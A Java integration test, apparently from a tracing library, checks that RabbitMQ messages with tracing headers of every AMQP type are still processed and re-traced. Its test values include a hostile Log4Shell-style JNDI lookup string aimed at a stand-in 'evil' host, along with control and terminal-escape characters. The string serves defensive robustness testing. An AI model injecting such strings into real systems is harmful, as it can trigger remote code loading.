// SPDX-FileCopyrightText: The Waybill Authors
// SPDX-License-Identifier: Apache-2.0
package dev.waybill.it.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import com.rabbitmq.client.AMQP;
import com.rabbitmq.client.impl.LongStringHelper;
import dev.waybill.it.BrokerUnderTest;
import dev.waybill.it.EveryBroker;
import dev.waybill.it.Inbox;
import dev.waybill.it.RecordedSpans;
import dev.waybill.it.TestQueue;
import dev.waybill.it.shop.TracedTaskHandler;
import dev.waybill.it.shop.TracedTaskQueue;
import io.opentelemetry.api.trace.SpanKind;
import io.opentelemetry.sdk.trace.data.SpanData;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever AMQP type a header that Waybill reads has, the message is handled and another one is sent meanwhile. */
@EveryBroker
class HeaderTypesTest {
    private static final String SENDER = "b7ad6b7169203331";
    private static final String TRACEPARENT = "00-0af7651916cd43dd8448eb211c80319c-" + SENDER + "-01";

    private final RecordedSpans spans = new RecordedSpans();
    private final Inbox<String> handled = new Inbox<>();
    private final TestQueue orders;
    private final TestQueue invoices;

    HeaderTypesTest(BrokerUnderTest broker) throws Exception {
        this.orders = TestQueue.on(broker);
        this.invoices = TestQueue.on(broker);
        orders.consume(TracedTaskHandler.wrap(
                (tag, order) -> {
                    TracedTaskQueue.wrap(invoices.sender(), spans.openTelemetry())
                            .publish(order.getProperties(), order.getBody());
                    handled.add(new String(order.getBody(), StandardCharsets.UTF_8));
                },
                spans.openTelemetry()));
    }

    @AfterEach
    void close() throws Exception {
        orders.close();
        invoices.close();
        spans.close();
    }

    private static List<Object> valuesOfEachType() {
        byte[] noText = {(byte) 0xc3, 0x28, (byte) 0xff};
        return Arrays.asList(
                "",
                "text",
                "caf\u00e9 \u0000 \u202e ${jndi:ldap://evil}\r\n\u001b[31m",
                "x".repeat(30_000),
                LongStringHelper.asLongString(noText),
                new byte[] {1, 2, 3},
                1,
                2L,
                (short) 3,
                (byte) 4,
                5.0,
                6.0f,
                new BigDecimal("7.8"),
                new Date(9_000),
                true,
                null,
                List.of(TRACEPARENT, 1),
                Map.of("count", "many", "nested", Map.of("traceparent", 1)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "traceparent",
                "Traceparent",
                "tracestate",
                "baggage",
                "headers",
                "waybill-relation",
                "waybill-sent-at",
                "x-death",
                "x-delivery-count",
                "timestamp_in_ms"
            })
    void areNoObstacle(String header) throws Exception {
        for (Object value : valuesOfEachType()) {
            Map<String, Object> headers = new HashMap<>(Map.of("customer", "ada"));
            headers.put(header, value);

            send("order-42", headers);

            assertThat(handled.next()).as("with %s", value).isEqualTo("order-42");
            Map<String, Object> sent = invoices.take().getProps().getHeaders();
            assertThat(sent.get("customer")).hasToString("ada");
            SpanData sending = spans.only(SpanKind.PRODUCER);
            assertThat(sent.get("traceparent").toString())
                    .startsWith("00-" + sending.getTraceId() + "-" + sending.getSpanId() + "-");
            assertThat(spans.only(SpanKind.CONSUMER).getParentSpanContext().isValid())
                    .isFalse();
            spans.reset();
        }
    }

    /** Neither the channel nor the consumer suffered. */
    @ParameterizedTest
    @ValueSource(strings = {"traceparent", "baggage"})
    void areForgottenByTheNextMessage(String header) throws Exception {
        send("order-1", Map.of(header, List.of("%zz")));
        send("order-2", Map.of("traceparent", TRACEPARENT));

        assertThat(List.of(handled.next(), handled.next())).containsExactly("order-1", "order-2");
        assertThat(spans.await(SpanKind.CONSUMER, 2).get(1).getParentSpanId()).isEqualTo(SENDER);
    }

    private void send(String order, Map<String, Object> headers) throws Exception {
        orders.sender()
                .publish(
                        new AMQP.BasicProperties.Builder().headers(headers).build(),
                        order.getBytes(StandardCharsets.UTF_8));
    }
}
